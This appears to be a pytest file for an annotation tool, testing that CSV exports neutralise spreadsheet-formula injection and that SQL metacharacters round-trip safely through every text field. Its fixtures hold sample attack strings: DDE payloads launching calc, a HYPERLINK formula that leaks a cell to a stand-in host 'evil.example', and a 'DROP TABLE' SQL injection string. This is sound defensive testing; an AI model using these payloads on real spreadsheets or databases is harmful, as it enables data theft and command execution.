"""Injection at the service level, on SQLite and PostgreSQL.

- Spreadsheet formulas: reasons, IDs and names starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return are escaped (a leading ``'``) in every CSV export — the labels CSV and the ``qrelforge check``
  history — while the machine formats (TREC, BEIR, JSONL) keep every byte.
- SQL metacharacters (quotes, ``;--``, ``%``, ``_``, backslashes, ``$1``, ``%(x)s``, ``?``, Unicode) in every
  free-text field round-trip unchanged: project titles, guidelines, grade labels, display names, document
  titles and texts, query texts, label, skip, adjudication and exclusion reasons, pair notes, release
  justifications and notes, run and prior-qrels names, document and query IDs.
(Rendering documents as inert text in the browser is the UI's part: docs/reliability.md, "pending: UI".)
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from annotate_app.cli import main
from annotate_app.services import (
    adjudication,
    export,
    gate,
    imports,
    labels,
    pooling,
    projects,
    queue,
    releases,
    users,
)
from annotate_app.services.auth import SYSTEM, authenticate

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NASTY = (
    "it's \"quoted\" `tick`; DROP TABLE labels;-- 100% _x_ \\ \\' \\\\x00 $1 ? :name %(name)s {0} "
    "＇；－－ 😀 \u202e"
)
NAME = "r'1;--%_\\$1?{0}＇"  # the same without spaces, for names and IDs


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def world(db, fast_hashing):
    """A project whose IDs and labels are formula-like and SQL-like, labelled by two annotators, a
    disagreement adjudicated and released."""
    projects.create_project(
        db,
        SYSTEM,
        "inj",
        title=NASTY,
        guidelines=NASTY,
        grade_scale=[(0, "no " + NASTY), (1, "yes " + NASTY)],
        min_reason_length=1,
    )
    docs = [
        {"doc_id": d, "title": NASTY, "text": f + " " + NASTY}
        for d, f in zip(["=1+1", "@d", NAME], FORMULAS, strict=False)
    ]
    imports.import_documents(
        db, SYSTEM, "inj", "".join(json.dumps(d) + "\n" for d in docs).encode(), filename="d.jsonl"
    )
    imports.import_queries(
        db,
        SYSTEM,
        "inj",
        (
            json.dumps({"query_id": "+q", "text": NASTY})
            + "\n"
            + json.dumps({"query_id": NAME, "text": FORMULAS[0]})
            + "\n"
        ).encode(),
        filename="q.jsonl",
    )
    run = "".join(f"{q} Q0 {d} 1 1 {NAME}\n" for q in ("+q", NAME) for d in ("=1+1", "@d", NAME))
    imports.import_run(db, SYSTEM, "inj", run.encode(), filename="r.trec")
    imports.import_qrels(db, SYSTEM, "inj", f"+q 0 =1+1 1\n{NAME} 0 @d 0\n".encode(), name=NAME + "prior")
    pooling.pool(db, SYSTEM, "inj", depth=3)
    for who in ("ann1", "ann2"):
        users.create_user(db, SYSTEM, who, f"{who}-password", display_name=NASTY)
    projects.assign(db, SYSTEM, "inj", ["ann1", "ann2"])
    for k, who in enumerate(("ann1", "ann2")):
        me = authenticate(db, who, f"{who}-password")
        i = 0
        while (view := queue.next_pair(db, me, "inj")) is not None:
            grade = 1 if (k == 0 or i) else 0
            labels.save_label(db, me, "inj", view.pair_id, grade=grade, reason=FORMULAS[i % len(FORMULAS)])
            i += 1
    for d in gate.disagreements(db, SYSTEM, "inj"):
        adjudication.adjudicate(db, SYSTEM, "inj", d.pair_id, grade=1, reason=FORMULAS[0])
    releases.create_release(db, SYSTEM, "inj", justification=NASTY, note=NASTY)
    return db


# ----------------------------------------------------------------------------------------- formulas
def test_labels_csv_escapes_every_formula_cell(world):
    rows = _cells(export.export_labels_csv(world, SYSTEM, "inj"))
    header, body = rows[0], rows[1:]
    assert len(body) == 12
    assert not [c for r in body for c in r if _dangerous(c)]
    reasons = {r[header.index("reason")] for r in body}
    assert reasons <= {"'" + f.strip() if _dangerous(f.strip()) else f.strip() for f in FORMULAS}
    assert "'" + FORMULAS[0] in reasons
    assert {r[header.index("query_id")] for r in body} == {"'+q", NAME}
    assert {r[header.index("doc_id")] for r in body} == {"'=1+1", "'@d", NAME}


def test_machine_formats_keep_every_byte(world):
    trec = export.export_release(world, SYSTEM, "inj", format="trec").decode()
    assert {tuple(line.split()[::2]) for line in trec.splitlines()} >= {("+q", "=1+1"), (NAME, "@d")}
    beir = export.export_release(world, SYSTEM, "inj", format="beir").decode().splitlines()
    assert beir[0] == "query-id\tcorpus-id\tscore" and any(line.startswith("+q\t=1+1\t") for line in beir)
    records = [
        json.loads(line) for line in export.export_release(world, SYSTEM, "inj", format="jsonl").splitlines()
    ]
    reasons = {x["reason"] for r in records for x in r["labels"]} | {
        r["adjudication"]["reason"] for r in records if r["adjudication"]
    }
    assert FORMULAS[0] in reasons and "=1+1" in {r["doc_id"] for r in records}


def test_check_history_csv_escapes_run_and_qrels_names(tmp_path, capsys):
    qrels, run, history = tmp_path / "=qrels.trec", tmp_path / "r.trec", tmp_path / "h.csv"
    qrels.write_text("q1 0 D1 1\n")
    run.write_text("q1 Q0 D1 1 1 sys\n")
    for name in ('=HYPERLINK("http://evil.example","x")', "@run", "-1+2"):
        assert (
            main(
                [
                    "check",
                    str(qrels),
                    str(run),
                    "--min",
                    "P@1=0.5",
                    "--history",
                    str(history),
                    f"--name={name}",
                ]
            )
            == 0
        )
    capsys.readouterr()
    rows = _cells(history.read_bytes())
    header = rows[0]
    assert [r[header.index("run")] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example","x")',
        "'@run",
        "'-1+2",
    ]
    assert not [c for r in rows[1:] for c in r if _dangerous(c)]


# ------------------------------------------------------------------------------------- SQL round trip
def test_sql_metacharacters_round_trip_in_every_text_field(world):
    db = world
    info = projects.get_project(db, SYSTEM, "inj")
    assert info.title == NASTY and projects.get_guidelines(db, SYSTEM, "inj").markdown == NASTY
    assert [label for _, label in info.settings.grade_scale] == ["no " + NASTY, "yes " + NASTY]
    assert users.get_user(db, SYSTEM, "ann1").display_name == NASTY
    assert set(dict(imports.list_runs(db, SYSTEM, "inj"))) == {NAME}
    me = authenticate(db, "ann1", "ann1-password")
    mine = labels.my_labels(db, me, "inj")
    assert {x.reason for x in mine} <= {f.strip() for f in FORMULAS}
    view = queue.get_pair(db, me, "inj", mine[0].pair_id)
    assert view.doc_title == NASTY and view.query_text in (NASTY, FORMULAS[0])
    assert view.doc_text.endswith(" " + NASTY)
    assert {(x.query_id, x.doc_id) for x in mine} <= {
        (q, d) for q in ("+q", NAME) for d in ("=1+1", "@d", NAME)
    }
    release = releases.get_release(db, SYSTEM, "inj")
    assert (release.justification, release.note) == (NASTY, NASTY)
    excluded = pooling.exclude_pair(db, SYSTEM, "inj", "+q", "@d", reason=NASTY)
    listing = pooling.list_pairs(db, SYSTEM, "inj")
    assert listing.loc[listing.pair_id == excluded.pair_id, "excluded_reason"].tolist() == [NASTY]
    with db.read() as s:
        priors = s.execute(text("SELECT DISTINCT source FROM prior_judgments")).scalars().all()
    assert priors == [NAME + "prior"]


def test_skip_reasons_and_pair_notes_round_trip(db, fast_hashing):
    from annotate_app.services.demo import load_demo

    load_demo(db)
    info = pooling.add_pair(db, SYSTEM, "demo", "q1", "D6", note=NASTY)
    listing = pooling.list_pairs(db, SYSTEM, "demo")
    assert listing.loc[listing.pair_id == info.pair_id, "note"].tolist() == [NASTY]
    alice = authenticate(db, "alice", "alice-demo")
    view = queue.next_pair(db, alice, "demo")
    queue.skip(db, alice, "demo", view.pair_id, reason=NASTY)
    with db.read() as s:
        assert (
            s.execute(text("SELECT skip_reason FROM assignments WHERE status = 'skipped'")).scalar() == NASTY
        )


FUZZ = settings(
    max_examples=15,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
STORABLE = (
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=60)
    .map(str.strip)
    .filter(lambda t: len(t) >= 5)
)


@FUZZ
@given(reason=STORABLE, title=STORABLE)
def test_any_storable_text_round_trips(demo, reason, title):
    """Random Unicode (no NUL, no lone surrogate) in a label reason and a document title comes back
    unchanged."""
    alice = authenticate(demo, "alice", "alice-demo")
    view = queue.next_pair(demo, alice, "demo") or queue.get_pair(
        demo, alice, "demo", labels.my_labels(demo, alice, "demo")[0].pair_id
    )
    seen = view.current.version if view.current else 0
    saved = labels.save_label(
        demo, alice, "demo", view.pair_id, grade=1, reason=reason, expected_version=seen
    )
    assert saved.reason == reason
    assert labels.pair_history(demo, alice, "demo", view.pair_id)[0].reason == reason
    doc = {"doc_id": "Dz", "title": title, "text": "body"}
    imports.import_documents(demo, SYSTEM, "demo", (json.dumps(doc) + "\n").encode(), filename="z.jsonl")
    with demo.read() as s:
        stored = (
            s.execute(
                text(
                    "SELECT v.title FROM document_versions v JOIN documents d ON d.id = v.document_id "
                    "WHERE d.external_id = 'Dz' ORDER BY v.version DESC"
                )
            )
            .scalars()
            .first()
        )
    assert stored == title
